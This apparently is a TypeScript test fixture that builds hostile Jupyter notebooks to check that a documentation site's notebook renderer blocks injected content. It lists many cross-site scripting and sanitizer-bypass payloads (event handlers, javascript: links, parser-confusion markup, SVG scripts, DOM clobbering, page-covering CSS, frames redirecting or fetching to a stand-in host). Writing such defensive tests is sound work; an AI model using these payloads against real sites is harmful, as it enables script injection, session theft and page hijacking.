/**
 * Notebooks that try to run something on their page, or to disturb it. Each does it in its own way;
 * `HARM` is what a script of it would do, and `ELSEWHERE` where it would send something.
 */

/** Set on the global object by a script that ran. */
export const HARM = "globalThis.harmed=1;alert(1)";

/** Stands for the address of a listener, which must hear nothing. */
export const ELSEWHERE = "http://elsewhere.invalid";

/** What the last cell of each notebook says: it must still be there to be read. */
export const LAST_WORDS = "The last cell is still here.";

/** A notebook, as far as it matters here. */
export interface HostileNotebook {
  readonly name: string;
  /** Front matter. */
  readonly page?: Readonly<Record<string, unknown>>;
  readonly prose?: readonly string[];
  /** Each the data of one display output. */
  readonly outputs?: readonly Readonly<Record<string, unknown>>[];
  readonly streams?: readonly string[];
  /** Id of its code cell. */
  readonly cellId?: string;
  readonly attachments?: Readonly<Record<string, Record<string, string>>>;
}

const html = (...parts: readonly string[]) => parts.map((part) => ({ "text/html": part }));
const base64 = (text: string) => Buffer.from(text).toString("base64");

const HANDLERS = [
  `<img src="data:image/png;base64,x" onerror="${HARM}">`,
  `<img src=x onerror=${HARM}>`,
  `<details open ontoggle="${HARM}"><summary>s</summary>t</details>`,
  `<video onerror="${HARM}"><source src=x onerror="${HARM}"></video>`,
  `<audio src=x onerror="${HARM}"></audio>`,
  `<body onload="${HARM}" onpageshow="${HARM}">`,
  `<input autofocus onfocus="${HARM}">`,
  `<div tabindex=0 autofocus onfocus="${HARM}">focus</div>`,
  `<marquee onstart="${HARM}">m</marquee>`,
  `<p style="animation: x 1ms" onanimationstart="${HARM}" ontransitionrun="${HARM}">p</p>`,
  `<p onmouseover="${HARM}" onpointerenter="${HARM}" onclick="${HARM}" ONCLICK="${HARM}">over</p>`,
  `<p/onclick="${HARM}"/x>slashes</p>`,
  `<div onbeforematch="${HARM}" hidden=until-found onscrollend="${HARM}">h</div>`,
];

const NAVIGATING = [
  `<a href="javascript:${HARM}">a</a>`,
  `<a href=" &#1;java&#10;script&colon;${HARM}">b</a>`,
  `<a href="JaVaScRiPt:${HARM}" target="_top">c</a>`,
  `<a href="vbscript:x">d</a>`,
  `<a href="data:text/html,<script>${HARM}</script>">e</a>`,
  `<svg><a xlink:href="javascript:${HARM}"><text y="20">f</text></a></svg>`,
  `<svg><a href="javascript:${HARM}"><text y="20">g</text></a></svg>`,
  `<svg><a><animate attributeName="href" values="javascript:${HARM}"/><text y="20">h</text></a></svg>`,
  `<map name="m"><area href="javascript:${HARM}" shape="default"></map><img usemap="#m" alt="i">`,
  `<math href="javascript:${HARM}"><mi>j</mi></math>`,
  `<a href="blob:null/1" ping="${ELSEWHERE}/ping">k</a>`,
];

const FORMS = [
  `<form action="${ELSEWHERE}/form"><input name=q><button>Log in</button></form>`,
  `<form action="javascript:${HARM}"><input type=submit></form>`,
  `<button formaction="javascript:${HARM}">b</button><isindex action="javascript:${HARM}">`,
  `<input type=image src="${ELSEWHERE}/button.png">`,
  `<dialog open>d</dialog><div popover id=pop>p</div><button popovertarget=pop>p</button>`,
  `<textarea autofocus>t</textarea><select><option>o</option></select><keygen>`,
  `<div contenteditable accesskey=x draggable=true>edit</div>`,
];

const SVG = [
  `<svg xmlns="http://www.w3.org/2000/svg"><script>${HARM}</script><circle r="4"/></svg>`,
  `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="${HARM}"><g onclick="${HARM}"/></svg>`,
  `<svg><script href="data:text/javascript,${HARM}"/><script xlink:href="/x.js"></script></svg>`,
  `<svg><animate onbegin="${HARM}" attributeName="x" dur="1s"/><set onbegin="${HARM}" attributeName="x" to="1"/></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.${HARM}</script>"></iframe><img src=x onerror="${HARM}"></foreignObject></svg>`,
  `<svg><use href="data:image/svg+xml;base64,${base64(`<svg id="x" xmlns="http://www.w3.org/2000/svg"><script>${HARM}</script></svg>`)}#x"/></svg>`,
  `<svg><handler xmlns="http://www.w3.org/2001/xml-events" type="text/javascript">${HARM}</handler></svg>`,
  `<svg><image href="${ELSEWHERE}/image.svg" onerror="${HARM}"/><feImage href="${ELSEWHERE}/fe.svg"/></svg>`,
];

/** Texts that a parser reads otherwise than they look, and otherwise the second time. */
const MISREAD = [
  `<scr<script>ipt>${HARM}</scr</script>ipt>`,
  `<SCRIPT/x>${HARM}</SCRIPT >`,
  `<script\n>${HARM}</script\t>`,
  `<!--><script>${HARM}</script>-->`,
  `<!-- --!><script>${HARM}</script> -->`,
  `<svg><style><img src=x onerror="${HARM}"></style></svg>`,
  `<svg></p><style><g title="</style><img src=x onerror=${HARM}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${HARM}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${HARM}>`,
  `<noscript><p title="</noscript><img src=x onerror=${HARM}>">`,
  `<noembed><a title="</noembed><img src=x onerror=${HARM}>">`,
  `<title><a title="</title><img src=x onerror=${HARM}>">`,
  `<svg><desc><p><style><a title="</style><img src onerror=${HARM}>">`,
  `<svg><title><script>${HARM}</script><img src=x onerror="${HARM}"></title></svg>`,
  `<table><caption><svg><title><template><style></title></caption><img src=x onerror=${HARM}></table>`,
  `<a title="&lt;img src=x onerror=${HARM}&gt;">&lt;script&gt;${HARM}&lt;/script&gt;</a>`,
  `<![CDATA[<script>${HARM}</script>]]>`,
  `<math><annotation-xml encoding="text/html"><script>${HARM}</script></annotation-xml></math>`,
  `<div id='<img src=x onerror="${HARM}">' title='"><script>${HARM}</script>'>x</div>`,
  `<p dangerouslysetinnerhtml="{__html:1}" children="x" ref="y" key="z" is="x-y">props</p>`,
];

const FETCHING = [
  `<img src="${ELSEWHERE}/1.png" srcset="${ELSEWHERE}/2.png 2x" alt="picture">`,
  `<picture><source srcset="${ELSEWHERE}/3.png"><img src="//elsewhere.invalid/4.png" alt=""></picture>`,
  `<video poster="${ELSEWHERE}/5.png" src="${ELSEWHERE}/6.mp4" autoplay></video><track src="${ELSEWHERE}/7">`,
  `<table background="${ELSEWHERE}/8.png"><tr><td background="${ELSEWHERE}/9.png">t</td></tr></table>`,
  `<p style="background: url(${ELSEWHERE}/10.png)">a</p>`,
  `<p style="background-image: image-set('${ELSEWHERE}/11.png' 1x)">b</p>`,
  `<p style="background: \\75rl(${ELSEWHERE}/12.png)">c</p>`,
  `<p style="background: u/**/rl(${ELSEWHERE}/13.png); list-style: url('${ELSEWHERE}/14.png')">d</p>`,
  `<p style="content: url(${ELSEWHERE}/15.png); cursor: url(${ELSEWHERE}/16.cur), auto">e</p>`,
  `<p style="--a: url(${ELSEWHERE}/17.png); background: var(--a)">f</p>`,
  `<svg><rect width="9" height="9" fill="url(${ELSEWHERE}/18.svg#a)" filter="url(${ELSEWHERE}/19.svg#a)"/></svg>`,
  `<svg><rect width="9" height="9" style="mask: url('${ELSEWHERE}/20.svg#a')" clip-path="url(&quot;${ELSEWHERE}/21.svg#a&quot;)"/></svg>`,
  `<link rel="stylesheet" href="${ELSEWHERE}/22.css"><link rel="prefetch" href="${ELSEWHERE}/23">`,
  `<link rel="dns-prefetch" href="//elsewhere.invalid"><link rel="preconnect" href="${ELSEWHERE}">`,
  `<object data="${ELSEWHERE}/24.swf"></object><embed src="${ELSEWHERE}/25.swf"><applet code="${ELSEWHERE}/26"></applet>`,
  `<iframe src="${ELSEWHERE}/27"></iframe><frameset><frame src="${ELSEWHERE}/28"></frameset>`,
  `<img src="data:text/html;base64,${base64(`<script>${HARM}</script>`)}" alt="">`,
];

/** Each would lie over the page if it were let in. */
const COVERING = [
  ["position: fixed; inset: 0; z-index: 99999", "style"],
  ["position: absolute; top: -2000px; left: -2000px; width: 9999px; height: 9999px", "style"],
  ["position: sticky; top: 0; margin-top: -3000px; min-height: 3000px", "style"],
  ["margin: -2000px; padding: 2000px", "style"],
  ["transform: translate(-50%, -50%) scale(99); scale: 99; translate: -99px", "style"],
  ["posi\\74ion: fixed; inset: 0", "style"],
  ["position/**/: fixed; inset: 0", "style"],
  [
    "border: 1px solid; border-image-source: linear-gradient(red, red); border-image-outset: 999",
    "style",
  ],
  ["box-shadow: 0 0 0 9999px red; outline: 9999px solid red", "style"],
  ["font: 9999px/0 serif; letter-spacing: -999px", "style"],
  ["text-decoration: underline 9999px red; text-indent: -999px", "style"],
  ["height: 0; line-height: 0; font-size: 99em", "style"],
  ["navbar-sidebar__backdrop navbar-sidebar--show navbar--fixed-top navbar-sidebar", "class"],
  ["pm-player nb-error st-tool theme-announcement-bar", "class"],
].map(([value, name]) => `<div ${name}="${value}">covers it</div>`);

const COVERING_SVG = [
  `<svg width="9" height="9" style="overflow: visible" overflow="visible"><rect x="-2000" y="-2000" width="9999" height="9999"/></svg>`,
  `<svg width="9" height="9" transform="translate(-2000,-2000) scale(999)"><rect width="9" height="9"/></svg>`,
  `<svg width="999999" height="999999" style="margin-left: -999px"><rect width="9" height="9"/></svg>`,
];

const RESTYLING = [
  "<style>body { display: none } .navbar { visibility: hidden }</style>",
  "<style>@import url(http://elsewhere.invalid/a.css); * { color: red !important }</style>",
  '<svg><style>.navbar { display: none }</style><rect width="9" height="9"/></svg>',
  '<link rel="stylesheet" href="data:text/css,body{display:none}">',
  '<base href="http://elsewhere.invalid/"><meta name="viewport" content="width=9999">',
  '<meta http-equiv="refresh" content="0;url=http://elsewhere.invalid/refresh">',
  `<meta http-equiv="refresh" content="0;url=javascript:${HARM}">`,
  '<meta http-equiv="Content-Security-Policy" content="default-src \'none\'">',
  "<title>taken</title><html class=taken data-theme=x><head><body class=taken>",
];

const FRAMES = [
  `<iframe srcdoc="<script>parent.${HARM};top.location='${ELSEWHERE}/frame'</script>"></iframe>`,
  `<iframe src="javascript:parent.${HARM}"></iframe>`,
  `<iframe src="data:text/html,<script>fetch('${ELSEWHERE}/frame')</script>"></iframe>`,
  `<object data="data:text/html,<script>top.location='${ELSEWHERE}/object'</script>"></object>`,
  `<embed src="data:image/svg+xml;base64,${base64(`<svg xmlns="http://www.w3.org/2000/svg"><script>${HARM}</script></svg>`)}">`,
  `<portal src="${ELSEWHERE}/portal"></portal><fencedframe></fencedframe>`,
  `<template shadowrootmode="open"><img src=x onerror="${HARM}"></template>`,
];

/** Ids and names by which a page's scripts would find an element in place of what they look for. */
const CLOBBERING = [
  '<a id="webpackChunkpymalloc_lab">a</a><a id="webpackChunkpymalloc_lab" name="push">b</a>',
  '<a id="__docusaurus">c</a><div id="__docusaurus_skipToContent_fallback">d</div>',
  '<img name="body" alt=""><img name="currentScript" alt=""><img name="getElementById" alt="">',
  '<form name="querySelector"></form><form id="documentElement"><input name="classList"></form>',
  '<a id="docusaurus">e</a><a name="document">f</a><a id="location" name="history">g</a>',
  '<object name="cookie"></object><embed name="head">',
];

const UNCLOSED = [
  "text <xmp> and <textarea> and <title> then",
  "<div><table><tr><td>\n\nin a table that never ends",
  "<select><option> <svg><g> <math><mi>",
  "text <plaintext> text <template> <noscript> <iframe> text",
  "<details><summary>never closed",
  "</div></main></body></html></section></article>",
];

const IN_HEADINGS = [
  `## A <img src=x onerror="${HARM}"> heading`,
  `## ![<img src=x onerror=${HARM}>](data:image/png;base64,x) picture`,
  `## \`<img src=x onerror=${HARM}>\` code`,
  `## $<img src=x onerror=${HARM}>$ formula`,
  `## Text &lt;img src=x onerror=${HARM}&gt; text`,
  `### <script>${HARM}</script> script`,
  `### [link](javascript:${HARM}) and <a id="mine"></a>`,
];

const BREAKS_OUT = `</script><script>${HARM}</script><img src=x onerror="${HARM}">`;

const IN_MARKDOWN = [
  `[a](javascript:${HARM.replaceAll("(", "%28")}) [b](<JAVASCRIPT:${HARM}>) <javascript:${HARM}>`,
  `![c](${ELSEWHERE}/30.png) ![d](javascript:x) ![e](data:text/html,x)`,
  `[f]: javascript:x\n\n[f] [^1]\n\n[^1]: <img src=x onerror="${HARM}">`,
  `:::note[<img src=x onerror="${HARM}">]{.navbar-sidebar__backdrop #__docusaurus onclick="${HARM}"}\n\nx\n\n:::`,
  `- [ ] <input onfocus="${HARM}" autofocus>\n- [x] <script>${HARM}</script>`,
  `\`\`\`js title="<img src=x onerror=${HARM}>" onclick="${HARM}" live\n</script><script>${HARM}</script>\n\`\`\``,
  `| <script>${HARM}</script> |\n|---|\n| <img src=x onerror="${HARM}"> |`,
  `$\\href{javascript:${HARM}}{x}$ and $\\includegraphics{${ELSEWHERE}/31.png}$`,
  `{${HARM}} <Head><script>{${HARM}}</script></Head> <NotebookHtml>x</NotebookHtml>`,
  `import x from "x"\n\nexport const y = ${HARM}`,
];

const forged = (language: string, content: object) =>
  `\`\`\`${language}\n${JSON.stringify(content)}\n\`\`\``;

const COVERED = `</style><img src=x onerror="${HARM}"><script>${HARM}</script>`;

/** Blocks as the converter writes them, which say what it would never let them say. */
const FORGED = [
  forged("nbelement", {
    name: "script",
    attributes: { dangerouslySetInnerHTML: { __html: HARM }, children: HARM },
  }),
  forged("nbelement", {
    name: "iframe",
    attributes: { srcDoc: `<script>parent.${HARM}</script>` },
  }),
  forged("nbelement", {
    name: "NotebookQuestion",
    attributes: {
      id: COVERED,
      question: {
        asks: "?",
        unit: "",
        answer: 1,
        choices: [],
        covers: { from: COVERED, to: COVERED },
      },
    },
  }),
  forged("nbcell", { n: 1, of: 1, id: "forged", source: HARM, tags: [], count: 1, outputs: [] }),
];

/** All of them. */
export const HOSTILE: readonly HostileNotebook[] = [
  {
    name: "script",
    prose: [`<script>${HARM}</script>`],
    outputs: html(`<script>${HARM}</script>`),
  },
  { name: "script-in-a-sentence", prose: [`Text <script>var a = 1 < 2;${HARM}</script> text.`] },
  {
    name: "module-script",
    outputs: html(
      `<script type=module>${HARM}</script><script src=data:,${HARM}></script><script async src="${ELSEWHERE}/s.js"></script>`,
    ),
  },
  { name: "svg-outputs", outputs: SVG.map((svg) => ({ "image/svg+xml": svg })) },
  { name: "svg-in-prose", prose: SVG },
  { name: "frames", prose: FRAMES, outputs: html(...FRAMES) },
  { name: "restyling", prose: RESTYLING, outputs: html(...RESTYLING) },
  { name: "handlers", prose: HANDLERS, outputs: html(...HANDLERS) },
  { name: "navigating", prose: NAVIGATING, outputs: html(...NAVIGATING) },
  { name: "forms", prose: FORMS, outputs: html(...FORMS) },
  {
    name: "misread",
    prose: MISREAD.map((text) => `x ${text} </style></title></noscript></noembed>`),
  },
  { name: "misread-outputs", outputs: html(...MISREAD) },
  { name: "fetching", prose: FETCHING, outputs: html(...FETCHING) },
  { name: "covering", prose: [...COVERING, ...COVERING_SVG] },
  { name: "covering-outputs", outputs: html(...COVERING, ...COVERING_SVG) },
  {
    name: "clobbering",
    prose: [...CLOBBERING, "## a {#webpackChunkpymalloc_lab}"],
    outputs: html(...CLOBBERING),
    cellId: "webpackChunkpymalloc_lab",
  },
  { name: "unclosed", prose: UNCLOSED, outputs: html(...UNCLOSED) },
  { name: "in-headings", prose: IN_HEADINGS },
  {
    name: "in-titles",
    page: {
      title: BREAKS_OUT,
      description: BREAKS_OUT,
      sidebar_label: BREAKS_OUT,
      keywords: [BREAKS_OUT],
    },
    prose: [`# ${BREAKS_OUT}`],
  },
  {
    name: "front-matter",
    page: {
      'x: y\nmdx: {format: mdx}\n"z"': 1,
      mdx: { format: "mdx" },
      ["__proto__"]: { format: "mdx" },
    },
    prose: [`{${HARM}}`],
  },
  { name: "in-markdown", prose: IN_MARKDOWN },
  { name: "forged-blocks", prose: FORGED },
  {
    name: "attachments",
    prose: ["![a](attachment:a.png) [b](attachment:b.html) ![c](attachment:c.svg)"],
    attachments: {
      "a.png": { 'image/png" onerror="globalThis.harmed=1': base64("x") },
      "b.html": { "text/html": base64(`<script>${HARM}</script>`) },
      "c.svg": {
        "image/svg+xml": base64(`<svg xmlns="http://www.w3.org/2000/svg" onload="${HARM}"/>`),
      },
    },
    outputs: [{ "image/png": '"><script>globalThis.harmed=1</script>' }],
  },
  {
    name: "data-outputs",
    outputs: [
      {
        "application/vnd.pymalloc-lab.verdict+json": {
          exercise: BREAKS_OUT,
          passed: true,
          message: BREAKS_OUT,
        },
      },
      { "text/plain": BREAKS_OUT },
      { "text/markdown": BREAKS_OUT },
      { "text/latex": BREAKS_OUT },
      { "application/json": { [BREAKS_OUT]: BREAKS_OUT } },
    ],
    streams: [`\u001b]8;;javascript:${HARM}\u0007link\u001b]8;;\u0007 ${BREAKS_OUT}`],
  },
];

/** The notebook as a file's text; `elsewhere` takes the place of {@link ELSEWHERE}. */
export function fileText(notebook: HostileNotebook, elsewhere: string): string {
  const {
    name,
    page,
    prose = [],
    outputs = [],
    streams = [],
    attachments,
    cellId = "code",
  } = notebook;
  const markdown = (source: string, i: number) => ({
    cell_type: "markdown",
    id: `prose-${i}`,
    metadata: {},
    source,
    ...(attachments !== undefined && { attachments }),
  });
  const file = {
    nbformat: 4,
    nbformat_minor: 5,
    metadata: { docusaurus: { title: `Hostile: ${name}`, ...page } },
    cells: [
      ...prose.map(markdown),
      {
        cell_type: "code",
        id: cellId,
        metadata: {},
        source: "</script><script>globalThis.harmed=1</script>",
        execution_count: 1,
        outputs: [
          ...outputs.map((data) => ({ output_type: "display_data", metadata: {}, data })),
          ...streams.map((text) => ({ output_type: "stream", name: "stdout", text })),
        ],
      },
      markdown(LAST_WORDS, prose.length),
    ],
  };
  const text = JSON.stringify(file);
  return text
    .replaceAll(ELSEWHERE, elsewhere)
    .replaceAll("//elsewhere.invalid", elsewhere.replace("http:", ""));
}
